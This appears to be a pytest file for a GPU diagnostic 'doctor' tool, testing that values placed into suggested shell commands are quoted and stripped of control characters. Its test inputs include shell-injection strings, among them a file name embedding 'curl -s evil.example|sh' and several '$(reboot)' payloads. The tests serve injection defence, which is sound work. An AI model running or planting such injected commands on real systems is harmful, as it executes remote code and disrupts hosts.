"""What the doctor found stands in commands and lines as text, whatever somebody named it."""

from __future__ import annotations

import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from doctor_patient import Patient, patient
from gpu_stack.doctor import findings
from gpu_stack.doctor.case import Case, clue

WORD = re.compile(r"\{(\w+)\}")
EVIL = 'a\'b "c" $(reboot); `reboot` *'


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Patient:
    return patient(tmp_path, monkeypatch)


def split(command: str) -> list[str]:
    """The words of a command, and what stands between commands: `;`, `|`, `$(`."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


def test_a_file_name_is_one_word_of_a_command(host: Patient) -> None:
    path = "/tmp/cudnn-$(curl -s evil.example|sh).tgz"
    host.write(path, "<!DOCTYPE html>")
    command = host.found()["login-wall"]["commands"][-1]
    assert split(command) == ["sha256sum", path]


def test_a_directory_of_a_log_is_one_word_of_a_command() -> None:
    text = "No versions of servable mnist found under base path /models;$(reboot)\n"
    (finding,) = findings.read_log(text)
    assert split(finding["commands"][0]) == ["ls", "-l", "/models;$(reboot)"]


@pytest.mark.parametrize("case", [case for case in findings.CASES if case.commands])
def test_no_value_ends_the_word_that_it_stands_in(case: Case) -> None:
    words = {word for command in case.commands for word in WORD.findall(command)} - {"host"}
    finding = findings.finding(case, [clue("x", **dict.fromkeys(words, EVIL))], EVIL)
    for template, command in zip(case.commands, finding["commands"], strict=True):
        parts = split(WORD.sub("VALUE", template))
        assert split(command) == [part.replace("VALUE", EVIL) for part in parts]


def test_several_packages_are_a_word_each() -> None:
    case = next(case for case in findings.CASES if case.id == "held-broken")
    finding = findings.finding(case, [clue("x", package=["libthing0", "a b"])])
    assert finding["commands"][-1] == "sudo apt-mark unhold libthing0 'a b'"


@pytest.mark.parametrize("nothing", [None, "", []])
def test_what_was_not_found_stays_as_the_name_of_it(nothing: Any) -> None:
    case = next(case for case in findings.CASES if case.id == "ptx-jit")
    finding = findings.finding(case, [clue("x", gpu=nothing)])
    assert finding["commands"][0] == "provision catalog --gpu '<gpu>'"


def test_control_characters_of_a_file_name_are_not_shown(host: Patient) -> None:
    host.write("/tmp/cudnn-\x1b[2J\u202e.tgz", "<!DOCTYPE html>")
    finding = host.found()["login-wall"]
    assert finding["evidence"] == ["/tmp/cudnn-?[2J?.tgz begins with <html"]
    assert finding["commands"][-1] == "sha256sum '/tmp/cudnn-?[2J?.tgz'"


def test_no_value_makes_a_line_of_its_own() -> None:
    case = next(case for case in findings.CASES if case.id == "slurm-away")
    finding = findings.finding(case, [clue("x\n$ y", node="n\n$ y", next="z\n$ y")], "gpu01")
    assert (finding["evidence"], finding["cure"]) == (["x?$ y"], "z?$ y")
    assert finding["commands"][0] == "scontrol show node 'n?$ y'"


def test_a_tab_of_a_log_is_a_space() -> None:
    (finding,) = findings.read_log("python:\tAttributeError: _ARRAY_API not found\n")
    assert finding["evidence"] == ["the log: python: AttributeError: _ARRAY_API not found"]
